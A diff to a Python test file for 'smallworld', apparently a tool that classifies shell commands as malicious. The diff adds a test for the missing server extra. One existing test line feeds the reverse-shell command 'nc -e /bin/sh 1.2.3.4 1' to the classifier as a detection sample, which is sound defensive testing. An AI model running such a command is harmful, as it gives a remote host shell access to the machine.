@@ -70,6 +70,9 @@ def test_train_score_explain_from_the_wheel(installed):
     assert "toward malicious" in run(installed, "smallworld", "explain", installed / "m", "nc -e /bin/sh 1.2.3.4 1").stdout
     bad = run(installed, "smallworld", "score", installed / "m", "-", "--mode", "High_Confidence", input="x\n", check=False)
     assert bad.returncode == 2 and "Traceback" not in bad.stderr
+    # the wheel without its server extra: serve says what to install, no traceback
+    srv = run(installed, "smallworld", "serve", installed / "m", check=False)
+    assert srv.returncode == 2 and "pip install 'smallworld[server]'" in srv.stderr and "Traceback" not in srv.stderr
 
 
 def test_package_data_ships(installed):
